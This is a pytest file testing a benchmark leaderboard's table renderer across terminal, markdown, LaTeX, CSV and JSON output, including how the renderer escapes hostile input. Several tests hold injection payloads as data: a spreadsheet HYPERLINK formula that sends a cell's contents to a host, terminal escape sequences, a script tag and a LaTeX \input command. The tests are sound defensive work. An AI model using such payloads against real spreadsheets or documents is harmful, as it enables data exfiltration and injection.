import csv
import io
import json
import math
import re
from functools import partial

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sama_bench import tables
from sama_bench.leaderboard.columns import known
from sama_bench.metric import BenchmarkTitle, Metric
from sama_bench.tables import escape, model
from sama_bench.tables.text import BOLD, RESET, UNDERLINED

DECLARED = known().with_further(
    [
        Metric("latency", "Latency", "seconds an answer", unit="seconds", better="lower", order=5),
        Metric("words", "Words", "words of the answer", unit="count", better="lower", order=6),
        Metric("ratio", "Ratio", "words said over words due", unit="points", better=1.0, order=7),
    ],
    [BenchmarkTitle("mine", "My benchmark", 1, ("words",))],
)
render = partial(tables.render, declared=DECLARED)
by_benchmark = partial(tables.by_benchmark, declared=DECLARED)
grand = partial(tables.grand, declared=DECLARED)


def row(name="m", metric="j_and_f", value=0.5, **more):
    base = {"benchmark": "mevis", "split": "valid_u", "protocol": "strict"}
    counts = {"samples": 10, "videos": 5, "coverage": 1.0}
    return {"model": name, **base, "metric": metric, "value": value, **counts, **more}


def lines(text):
    return [re.sub(r"\x1b\[\d*m", "", line).rstrip() for line in text.splitlines()]


def test_the_terminal_table_as_a_person_sees_it():
    rows = [row("a", "j", 0.25), row("a", value=0.5), row("bb", "j", 0.125), row("bb", value=None)]
    assert lines(render(rows)) == [
        "MeViS, in percent",
        "model  split    protocol     J   J&F",
        "------------------------------------",
        "a      valid_u  strict    25.0  50.0",
        "bb     valid_u  strict    12.5   n/a",
    ]


def test_best_and_second_in_every_format():
    rows = [row("a", value=0.3), row("b", value=0.2), row("c", value=0.1)]
    terminal = render(rows)
    assert f"{BOLD}30.0{RESET}" in terminal
    assert f"{UNDERLINED}20.0{RESET}" in terminal
    assert "<b>30.0</b>" in render(rows, "markdown")
    assert "<u>20.0</u>" in render(rows, "markdown")
    latex = render(rows, "latex")
    assert r"\textbf{30.0}" in latex
    assert r"\underline{20.0}" in latex
    assert r"\toprule" in latex
    assert r"10.0 \\" in latex


def marks(rows, **options):
    (table,) = by_benchmark(rows, **options)
    return [line.cells[0].mark for line in table.lines]


def test_a_declared_metric_is_obeyed_in_every_format():
    """Unit, direction, order and title come from the declaration and from nowhere else."""
    rows = [
        row(name, metric, value, benchmark="mine", coverage=1.0)
        for name, values in {"a": (1.25, 12.0, 0.9), "b": (0.5, 7.0, 1.4)}.items()
        for metric, value in zip(("latency", "words", "ratio"), values, strict=True)
    ]
    assert lines(render(rows)) == [
        "My benchmark",
        "model  split    protocol  Latency (s)  Words  Ratio",
        "---------------------------------------------------",
        "a      valid_u  strict            1.2     12    0.9",
        "b      valid_u  strict            0.5      7    1.4",
    ]
    text = render(rows)
    best = [re.escape(BOLD) + number + re.escape(RESET) for number in ("0.5", "7", "0.9")]
    assert all(re.search(number, text) for number in best)
    assert r"\textbf{7}" in render(rows, "latex")
    assert "<b>7</b>" in render(rows, "markdown")
    assert [float(line["value"]) for line in csv.DictReader(io.StringIO(render(rows, "csv")))] == [
        1.25, 12.0, 0.9, 0.5, 7.0, 1.4,
    ]  # fmt: skip
    assert "My benchmark Words" in render(rows, layout="grand")


def test_shares_beside_other_units_say_percent():
    rows = [row("a", "j", 0.25), row("a", "latency", 2.0)]
    assert lines(render(rows))[:2] == [
        "MeViS, shares in percent",
        "model  split    protocol  Latency (s)     J",
    ]


def test_what_nothing_declares_stands_last_and_as_it_is():
    rows = [row("a", "j", 0.25), row("a", "a_thing", 2.0)]
    assert lines(render(rows))[1].split()[-3:] == ["J", "a", "thing"]
    assert lines(render(rows))[3].split()[-2:] == ["25.0", "2.0"]


@pytest.mark.parametrize(
    ("reason", "note"),
    [({"variant": "a stand-in judge"}, "† a stand-in judge"), ({"coverage": 0.9995}, "not ranked")],
)
def test_what_is_not_comparable_is_shown_with_its_reason_but_never_ranked(reason, note):
    rows = [row("a", value=0.9, **reason), row("b", value=0.2), row("c", value=0.1)]
    assert marks(rows) == [None, "best", "second"]
    assert note in render(rows)


def test_splits_and_protocols_are_ranked_apart():
    rows = [row("a", value=0.9), row("b", value=0.2, protocol="released"), row("c", value=0.1)]
    assert marks(rows) == ["best", None, "second"]
    rows[1].update(protocol="strict", split="valid")
    assert marks(rows) == ["best", None, "second"]


def test_ties_share_their_rank_and_one_model_alone_has_none():
    assert marks([row("a"), row("b"), row("c", value=0.1)]) == ["best", "best", "second"]
    assert marks([row("a")]) == [None]


def test_for_times_less_is_better():
    assert marks([row("a", "seconds", 2.0), row("b", "seconds", 1.0)]) == ["second", "best"]


def test_a_share_is_shown_in_percent_even_where_less_is_better():
    rows = [row("a", "refusal_rate", 0.25), row("b", "refusal_rate", 0.5)]
    assert marks(rows) == ["best", "second"]
    assert "25.0" in render(rows)


def test_a_model_that_saw_tracks_another_history_and_another_prompt_say_so_at_their_name():
    text = render(
        [
            row("tracked", takes_tracks=True),
            row("forced", history="teacher-forced"),
            row("plain", history="independent"),
            row("boxed", prompt="a box in words"),
        ]
    )
    assert "tracked†" in text
    assert "forced‡" in text
    assert "plain " in text
    assert "boxed§" in text
    assert "† sees whole tracks" in text
    assert "‡ history: teacher-forced" in text
    assert "§ prompt: a box in words" in text


def test_two_histories_of_one_model_stand_in_two_lines():
    (table,) = by_benchmark([row(), row(value=0.4, history="free-running")])
    assert [line.cells[0].value for line in table.lines] == [50.0, 40.0]


def test_two_numbers_for_one_cell_are_both_shown():
    (table,) = by_benchmark([row(source="Table 2"), row(source="README", value=0.4)])
    assert [line.labels[-1] for line in table.lines] == ["Table 2", "README"]
    (table,) = by_benchmark([row(), row(value=0.4, variant="another judge")])
    assert len(table.lines) == 2


def test_intervals_and_significance():
    rows = [row("a", value=0.5, low=0.45, high=0.55), row("b", value=0.4, p=0.01)]
    text = render(rows)
    assert "50.0 [45.0, 55.0]" in text
    assert "40.0*" in text
    assert "* differs from the best" in text
    assert "$^{*}$" in render(rows, "latex")
    rows[1]["p"] = 0.06
    assert "*" not in render(rows)


@pytest.mark.parametrize(
    ("coverage", "shown"), [(1.0, "100%"), (0.99999, "99.9%"), (0.5, "50%"), (0.0, "0%")]
)
def test_incomplete_coverage_never_rounds_to_complete(coverage, shown):
    assert model.shown_coverage(coverage) == shown


def test_the_grand_table_has_benchmarks_as_columns_and_their_headline_metrics():
    rows = [
        row("a"),
        row("a", "j", 0.1),
        row("a", "ciou", 0.8, benchmark="refcoco", split="val"),
        row("a", "perception", 1600.0, benchmark="mme", split=None),
        row("b", value=0.4),
        row("b", value=0.3, split="valid"),
    ]
    (table,) = grand(rows)
    assert table.columns == (
        "RefCOCO cIoU",
        "MeViS valid J&F",
        "MeViS valid_u J&F",
        "MME Perc.",
    )
    a, b = table.lines
    assert [cell and cell.value for cell in a.cells] == [80.0, None, 50.0, 1600.0]
    assert [cell and cell.value for cell in b.cells] == [None, 30.0, 40.0, None]
    assert "MeViS valid_u J&F" in render(rows, layout="grand")


def test_csv_and_json_hold_the_rows_unrounded():
    rows = [row(value=1 / 3), row("b", value=None, variant="v"), row("c", value=math.nan)]
    scores = json.loads(render(rows, "json"))["scores"]
    assert [score["value"] for score in scores] == [1 / 3, None, None]
    table = list(csv.DictReader(io.StringIO(render(rows, "csv"))))
    assert [line["value"] for line in table] == [str(1 / 3), "", ""]
    assert [line["variant"] for line in table] == ["", "v", ""]


def test_no_rows_are_said_to_be_none():
    assert render([]) == "no scores\n"
    assert json.loads(render([], "json")) == {"scores": []}


def test_escape_sequences_do_not_reach_the_terminal():
    name = "\x1b]0;title\x07\x1b[31mred\x1b[0m\r\n\u202eevil\x9b"
    assert escape.clean(name) == "red evil"
    for format in ("terminal", "markdown", "latex", "csv"):
        text = render([row(name)], format)
        assert "red evil" in text
        assert not re.search(r"[\x1b\x07\r\x9b\u202e]", text)


@given(st.text(max_size=30))
def test_any_name_stays_in_its_cell(name):
    first = {**row(name), "note": name}
    for format in ("terminal", "markdown", "latex"):
        text = render([first, row("b")], format)
        assert len(text.splitlines()) <= 20
    body = [line for line in render([first], "markdown").splitlines() if line[:1] == "|"]
    assert {len(re.findall(r"(?<!\\)\|", line)) for line in body} == {5}
    latex = render([first], "latex")
    assert latex.count("{") - latex.count(r"\{") == latex.count("}") - latex.count(r"\}")


def test_markup_in_names_is_shown():
    markdown = render([row("<script>*a*|`b`")], "markdown")
    assert r"&lt;script&gt;\*a\*\|\`b\`" in markdown
    latex = render([row(r"a_b & 50% #1 \input{x} ~^$")], "latex")
    assert (
        r"a\_b \& 50\% \#1 \textbackslash{}input\{x\} "
        r"\textasciitilde{}\textasciicircum{}\$" in latex
    )


@pytest.mark.parametrize("sign", "=+-@")
def test_no_field_of_csv_is_a_formula(sign):
    formula = f'{sign}HYPERLINK("http://127.0.0.1:9/?"&A2,"x")'
    text = render([{**row(f" {formula}", value=-0.5), f"{sign}a": "\t=1"}], "csv")
    heads, fields = csv.reader(io.StringIO(text))
    found = dict(zip(heads, fields, strict=True))
    assert found["model"] == f"'{formula}"
    assert found[f"'{sign}a"] == "'=1"
    assert found["value"] == "-0.5"  # a number is one


@pytest.mark.parametrize("name", ["[2B] x", "*x"])
def test_no_row_of_latex_begins_with_an_option(name):
    body = render([row(name), row("b")], "latex").splitlines()
    assert f"{{{name[0]}}}{name[1:]} & " in "\n".join(body)
    assert not [line for line in body if line.startswith(("[", "*"))]


def test_json_is_the_same_in_escapes():
    name = "a\u202e\x9b\u2028\U000e0041b"
    text = render([row(name)], "json")
    assert json.loads(text)["scores"][0]["model"] == name
    assert not re.search("[\x80-\x9f\u202e\u2028\U000e0041]", text)


def test_lines_keep_their_spaces_and_nothing_else():
    text = "  a\tb  c\x1b[8m\x00\u2066d\ne"
    assert escape.printable(text) == "  a b  cd\ne"
    assert escape.one_line(text) == "  a b  cd e"


def test_wide_characters_keep_the_columns_aligned():
    text = lines(render([row("模型"), row("abcd")]))
    assert text[3].index("valid_u") + 2 == text[4].index("valid_u")


def test_footnote_signs_never_repeat():
    signs = [model.symbol(place) for place in range(100)]
    assert len(set(signs)) == 100
    assert signs[:6] == ["†", "‡", "§", "¶", "‖", "a"]
